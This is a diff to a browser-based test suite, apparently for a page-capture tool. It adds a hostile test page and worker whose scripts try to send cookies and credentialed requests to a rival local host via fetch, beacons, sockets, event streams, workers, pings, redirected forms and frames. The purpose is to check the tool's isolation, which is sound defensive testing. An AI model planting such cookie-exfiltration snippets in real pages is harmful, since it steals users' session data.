@@ -33,15 +33,19 @@ const sent = (address: string) => asked.find((one) => one.address === address)?.
 
 /** Answers for any host, and keeps what it was asked with. */
 async function listen(
-  answer: (host: string, path: string, headers: string) => { location?: string; html?: string },
+  answer: (
+    host: string,
+    path: string,
+    headers: string,
+  ) => { location?: string; html?: string; status?: number },
 ) {
   const server = createServer((request, response) => {
     const host = request.headers.host ?? '';
     const whole = `${request.url} ${JSON.stringify(request.headers)}`;
     asked.push({ address: `${host}${request.url}`, whole });
-    const { location, html } = answer(host, request.url ?? '/', whole);
-    response.writeHead(location === undefined ? 200 : 302, {
-      'content-type': 'text/html',
+    const { location, html, status = 302 } = answer(host, request.url ?? '/', whole);
+    response.writeHead(location === undefined ? 200 : status, {
+      'content-type': request.url?.endsWith('.js') ? 'text/javascript' : 'text/html',
       'set-cookie': 'visit=1',
       'access-control-allow-origin': '*',
       ...(location && { location }),
@@ -56,6 +60,36 @@ async function listen(
   const close = () => new Promise((resolve) => server.close(resolve).closeAllConnections());
   return { close, port: (server.address() as AddressInfo).port };
 }
+
+/** What a page's scripts and workers may try to carry to another host. */
+const TRIES = `const tries = (to, from) => Promise.allSettled([
+  fetch(to + '/' + from + '-fetch', { credentials: 'include', mode: 'no-cors' }),
+  fetch(to + '/' + from + '-body', { method: 'POST', mode: 'no-cors', body: globalThis.document?.cookie ?? '' }),
+  fetch('/post', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' }),
+]);
+const socket = (to, from) => new WebSocket(to.replace('http', 'ws') + '/' + from + '-socket');
+const events = (to, from) => new EventSource(to + '/' + from + '-events', { withCredentials: true });`;
+
+const workerOf = (to: string) => `${TRIES}
+  tries('${to}', 'worker'); socket('${to}', 'worker'); events('${to}', 'worker');
+  try { importScripts('${to}/worker-import.js') } catch {}`;
+
+const hostilePage = (to: string, sub: string) => `<title>Boats</title><h1>Boats</h1><p>${TEXT}</p>
+  <link rel="prefetch" href="${to}/prefetch"><link rel="preload" as="image" href="${to}/preload">
+  <img src="${to}/image"><iframe srcdoc="<img src='${to}/srcdoc'>"></iframe>
+  <iframe name="target"></iframe><form action="/post" method="post" target="target"><input name="a"></form>
+  <iframe src="${sub}/sub-frame"></iframe><a id="ping" target="target" href="/own.gif" ping="${to}/ping">Boats</a>
+  <script>${TRIES}
+    for (const host of ['${to}', '${sub}']) {
+      const from = host === '${to}' ? 'page' : 'sub';
+      tries(host, from); socket(host, from); events(host, from);
+      navigator.sendBeacon(host + '/' + from + '-beacon', document.cookie);
+    }
+    new Worker('/worker.js');
+    try { new SharedWorker('/worker.js') } catch {}
+    navigator.serviceWorker?.register('/worker.js').catch(() => {});
+    document.querySelector('#ping').click(); document.forms[0].submit();
+  </script>`;
 
 const close: (() => Promise<unknown>)[] = [];
 let site = '';
@@ -78,6 +112,9 @@ beforeAll(async () => {
     if (path === '/moved.gif') return { location: `${rival}/redirected.gif` };
     if (path === '/away') return { location: `${rival}/page` };
     if (path.startsWith('/other-port?')) return { location: `${otherPort}/page` };
+    if (path === '/worker.js') return { html: workerOf(rival) };
+    if (path === '/post') return { location: `${rival}/posted`, status: 307 };
+    if (path === '/hostile') return { html: hostilePage(rival, subdomain) };
     const html = `<title>Boats</title><h1>Boats</h1><p>${TEXT}</p>
       <p>You sent ${whole.replaceAll('"', ' ')}</p><p id="kept"></p>
       <script>document.querySelector('#kept').textContent = 'Kept: ' + localStorage.getItem('token');
@@ -160,6 +197,20 @@ describe.skipIf((await availableBrowser()) === null)('with a browser', { timeout
     expect(sent(`${otherPort.slice(7)}/port.gif`)).toBe('');
     expect(sent(`${otherPort.slice(7)}/socket`)).toBe('');
     expect(sent(`${otherPort.slice(7)}/rival-socket`)).toBe('');
+    expectNothingElsewhere();
+  });
+
+  it('gives nothing to another host by workers, sockets, beacons, forms or frames', async () => {
+    const given = accessFor(site, access());
+    const { snapshot } = await withCapturer(null, (capturer) =>
+      capturer.capture(`${site}/hostile`, { access: given, budgetMs: 50_000 }),
+    );
+    expect(snapshot.mode).toBe('rendered');
+    const reached = new Set(strays().map(({ address }) => address.slice(address.indexOf('/'))));
+    for (const path of ['page-fetch', 'page-socket', 'page-events', 'page-beacon', 'posted', 'srcdoc'])
+      expect(reached).toContain(`/${path}`);
+    for (const path of ['worker-fetch', 'worker-import.js', 'worker-socket', 'sub-fetch', 'sub-beacon'])
+      expect(reached).toContain(`/${path}`);
     expectNothingElsewhere();
   });
 
